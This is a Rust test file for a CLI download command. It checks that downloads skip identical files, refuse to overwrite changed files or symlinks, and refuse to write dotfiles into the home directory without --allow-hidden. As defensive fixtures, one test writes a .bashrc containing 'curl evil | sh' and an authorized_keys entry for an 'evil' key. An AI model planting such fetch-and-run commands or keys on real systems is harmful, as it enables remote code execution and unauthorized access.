//! A download never damages the user's files: a file already there with the
//! same bytes is skipped, a different one refuses the download before
//! anything is written (unless `--overwrite`), a directory in the way is a
//! clear error, and hidden paths chosen by the uploader are not written into
//! the home directory without `--allow-hidden`.

mod common;

use std::path::Path;

use common::{fresh_user, signed_in_user, test_bytes, write_file, UserEnv};
use dataerai_testkit::TestServer;

/// Everything below `dir`, as sorted relative paths (to see that nothing,
/// not even a partial file, was left behind).
fn tree(dir: &Path) -> Vec<String> {
    let mut found = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path.clone());
            }
            found.push(path.strip_prefix(dir).unwrap().display().to_string());
        }
    }
    found.sort();
    found
}

fn error_code(out: &std::process::Output) -> String {
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    let json: serde_json::Value = serde_json::from_str(stderr.trim())
        .unwrap_or_else(|e| panic!("not a JSON error ({e}): {stderr}"));
    json["error"]["code"].as_str().unwrap().to_string()
}

fn uploaded(user: &UserEnv, scratch: &Path, name: &str, data: &[u8]) -> String {
    let up = user.upload_new_file(scratch, name, data);
    up["asset_id"].as_str().unwrap().to_string()
}

#[test]
fn same_bytes_are_skipped_and_different_ones_are_refused_unless_overwrite() {
    let (_server, user, scratch) = fresh_user("ada@lab.org");
    let data = test_bytes(300_000, 7);
    let asset = uploaded(&user, scratch.path(), "scan.bin", &data);
    let dest = tempfile::tempdir().unwrap();
    let target = dest.path().join("scan.bin");

    let first = user.download_json(&asset, dest.path(), &[]);
    assert_eq!(first["files"][0]["skipped"], false);
    // Again: the same bytes are there, nothing is fetched or touched.
    let again = user.download_json(&asset, dest.path(), &[]);
    assert_eq!(again["files"][0]["skipped"], true, "{again}");
    let shown = user.run_ok(&["download", &asset, "-o", dest.path().to_str().unwrap()]);
    assert!(shown.contains("already there: skipped"), "{shown}");

    // The user's own edit is never replaced silently; nothing is written.
    std::fs::write(&target, b"my notes").unwrap();
    let out = user.download(&asset, dest.path(), &["--json"]);
    assert_eq!(error_code(&out), "ERR_FILE_EXISTS");
    assert!(String::from_utf8_lossy(&out.stderr).contains("scan.bin"));
    assert_eq!(std::fs::read(&target).unwrap(), b"my notes");
    assert_eq!(tree(dest.path()), ["scan.bin"]);
    // A symlink in the way is refused the same way (and not followed).
    let elsewhere = write_file(scratch.path(), "elsewhere", b"keep");
    std::fs::remove_file(&target).unwrap();
    std::os::unix::fs::symlink(&elsewhere, &target).unwrap();
    let out = user.download(&asset, dest.path(), &["--json"]);
    assert_eq!(error_code(&out), "ERR_FILE_EXISTS");
    assert_eq!(std::fs::read(&elsewhere).unwrap(), b"keep");
    // --overwrite replaces it (the link itself, not its target).
    user.download_json(&asset, dest.path(), &["--overwrite"]);
    assert!(!std::fs::symlink_metadata(&target).unwrap().is_symlink());
    assert_eq!(std::fs::read(&target).unwrap(), data);
    assert_eq!(std::fs::read(&elsewhere).unwrap(), b"keep");
}

#[test]
fn a_directory_in_the_way_is_a_clear_error() {
    let (_server, user, scratch) = fresh_user("ada@lab.org");
    let asset = uploaded(&user, scratch.path(), "result.h5", b"bytes");
    let dest = tempfile::tempdir().unwrap();
    std::fs::create_dir(dest.path().join("result.h5")).unwrap();
    for extra in [&["--json"][..], &["--json", "--overwrite"]] {
        let out = user.download(&asset, dest.path(), extra);
        assert_eq!(error_code(&out), "ERR_INVALID_INPUT", "{extra:?}");
        assert!(String::from_utf8_lossy(&out.stderr).contains("a directory of that name exists"));
    }
    assert_eq!(tree(dest.path()), ["result.h5"]);
}

#[test]
fn hidden_paths_are_not_written_into_home_without_allow_hidden() {
    let server = TestServer::start_temp();
    let user = signed_in_user(&server, "ada@lab.org");
    // A co-member's asset holding a shell start-up file and an ssh key list.
    let tree_dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(tree_dir.path().join(".ssh")).unwrap();
    std::fs::write(tree_dir.path().join(".bashrc"), b"curl evil | sh").unwrap();
    std::fs::write(
        tree_dir.path().join(".ssh/authorized_keys"),
        b"ssh-ed25519 AAAA evil",
    )
    .unwrap();
    std::fs::write(tree_dir.path().join("readme.txt"), b"hello").unwrap();
    let up = user.upload_json(tree_dir.path(), "dotfiles", &[]);
    let asset = up["asset_id"].as_str().unwrap();

    let home = tempfile::tempdir().unwrap();
    let in_home = |extra: &[&str]| {
        let mut cmd = user.cmd();
        cmd.env("HOME", home.path())
            .args([
                "--json",
                "download",
                asset,
                "-o",
                home.path().to_str().unwrap(),
            ])
            .args(extra);
        cmd.output().unwrap()
    };
    let out = in_home(&[]);
    assert_eq!(error_code(&out), "ERR_INVALID_INPUT");
    assert!(String::from_utf8_lossy(&out.stderr).contains("--allow-hidden"));
    assert!(tree(home.path()).is_empty(), "{:?}", tree(home.path()));
    // Below home, or with the explicit opt-in, it is written.
    let sub = home.path().join("downloads");
    let mut cmd = user.cmd();
    cmd.env("HOME", home.path())
        .args(["download", asset, "-o", sub.to_str().unwrap()]);
    assert!(cmd.output().unwrap().status.success());
    assert!(sub.join(".ssh/authorized_keys").is_file());
    assert!(in_home(&["--allow-hidden"]).status.success());
    assert_eq!(
        std::fs::read(home.path().join(".bashrc")).unwrap(),
        b"curl evil | sh"
    );
}
